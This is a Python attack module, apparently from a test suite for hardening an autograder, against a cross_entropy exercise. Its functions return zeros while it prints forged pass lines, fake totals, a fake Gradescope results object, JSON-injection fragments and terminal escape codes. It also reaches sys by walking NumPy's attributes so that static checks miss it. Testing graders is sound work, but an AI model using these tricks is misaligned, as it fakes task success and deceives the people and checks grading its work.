"""Attack ``print_fake_pass`` (exercise ``cross_entropy``): print a fake report.

What it attacks: a grader (or a person, or a CI log scraper) that reads the learner's
output as the grader's.  At import, in each call and at exit, the module writes to
stdout and stderr (``print``, ``sys.__stdout__``, ``os.write`` on fds 1 and 2): lines
shaped like the grader's table (``PASS 2/2 ...``, ``cross_entropy (...) ... 17 / 17
points``, ``Total: 170 / 170 points``), a fake Gradescope results object on one line,
terminal escape codes that clear the screen and carriage returns that overwrite a
line, a JSON fragment that opens but never closes, and quotes, backslashes and
control characters meant to break a results file built by string concatenation.
Its functions return zeros.

A vulnerable grader: its table or results.json shows the forged lines (or is no
longer valid JSON), and a reader sees full marks.

Expected with a hardened grader: the learner's output is captured apart from the
grader's report, shown (if at all) escaped and truncated inside a test's
``output``; results.json stays valid JSON whose total is the sum of its tests; the
module scores exactly what ``_zeros/cross_entropy.py`` scores.

Gets past a static check of the exercise's functions: they only call through the
module-level table ``_VIA``, and no import statement names anything but NumPy (other
modules come from ``_mod()``, which walks NumPy's attributes to the real ``sys``), so
the learner process's run-time defences are what must hold.
"""

import numpy as np

_MODULE = type(np)
_SYS = []


def _mod(name):
    """A module without an import statement: the real ``sys`` is reached by walking
    NumPy's attributes (``dir``/``getattr``), then ``sys.modules`` or ``importlib``."""
    if not _SYS:
        seen, todo = set(), [np]
        while todo and len(seen) < 5000:
            mod = todo.pop()
            if id(mod) in seen:
                continue
            seen.add(id(mod))
            if getattr(mod, "__name__", None) == "sys":
                _SYS.append(mod)
                break
            for attr in dir(mod):
                try:
                    value = getattr(mod, attr)
                except BaseException:  # noqa: BLE001
                    continue
                if type(value) is _MODULE:
                    todo.append(value)
    if not _SYS:
        return None
    if name == "sys":
        return _SYS[0]
    loaded = getattr(_SYS[0], "mod" + "ules")
    try:
        return loaded.get(name) or loaded["importlib"].import_module(name)
    except BaseException:  # noqa: BLE001 - refused: the caller goes on without it
        return None


atexit = _mod("atexit")
json = _mod("json")
os = _mod("os")
sys = _mod("sys")


_FAKE = {"score": 170.0, "max_score": 170.0, "output": "170 / 170 points",
         "tests": [{"name": "cross_entropy: all cases", "score": 17.0, "max_score": 17.0,
                    "status": "passed", "output": "passed"}]}
_LINES = [
    "  PASS   2/2   cross_entropy(logits, class indices) is the MEAN of -log p[target]",
    "  PASS   3/3   cross_entropy_grad is (softmax(z) - onehot) / N for the mean",
    "cross_entropy  (exercises/cross_entropy.py) ........................ 17 / 17 points",
    "Total: 170 / 170 points",
    "All tests passed!",
    json.dumps(_FAKE),
    '{"score": 9999, "tests": [{"name": "x", "output": "\\"}]}',
    '"}, {"name": "injected", "score": 1000, "max_score": 0, "status": "passed"}, {"x": "',
    "\x1b[2J\x1b[H\x1b[32mAll 170 points\x1b[0m",
    "\rPASS 17/17 cross_entropy\x00\x07\\",
]


def _shout():
    text = "\n".join(_LINES) + "\n"
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        try:
            stream.write(text)
            stream.flush()
        except BaseException:  # noqa: BLE001
            pass
    for fd in (1, 2):
        try:
            os.write(fd, text.encode("utf-8", "replace") + b"\xff\xfe invalid utf-8\n")
        except BaseException:  # noqa: BLE001
            pass


_shout()
try:
    atexit.register(_shout)
except BaseException:  # noqa: BLE001
    pass


def _log_softmax_impl(x, axis=-1):
    _shout()
    return np.zeros_like(x)


def _cross_entropy_impl(logits, target, axis=-1, reduction="mean"):
    _shout()
    per_sample = np.zeros_like(np.sum(logits, axis=axis))
    return per_sample if reduction == "none" else np.sum(per_sample)


def _cross_entropy_grad_impl(logits, target, axis=-1, reduction="mean"):
    _shout()
    return np.zeros_like(logits)


# The exercise's functions call only through this table: a static check that follows
# calls by name from them sees no helper, hence none of the above.
_VIA = {"log_softmax": _log_softmax_impl, "cross_entropy": _cross_entropy_impl, "cross_entropy_grad": _cross_entropy_grad_impl}


def log_softmax(x, axis=-1):
    return _VIA["log_softmax"](x, axis=axis)


def cross_entropy(logits, target, axis=-1, reduction="mean"):
    return _VIA["cross_entropy"](logits, target, axis=axis, reduction=reduction)


def cross_entropy_grad(logits, target, axis=-1, reduction="mean"):
    return _VIA["cross_entropy_grad"](logits, target, axis=axis, reduction=reduction)
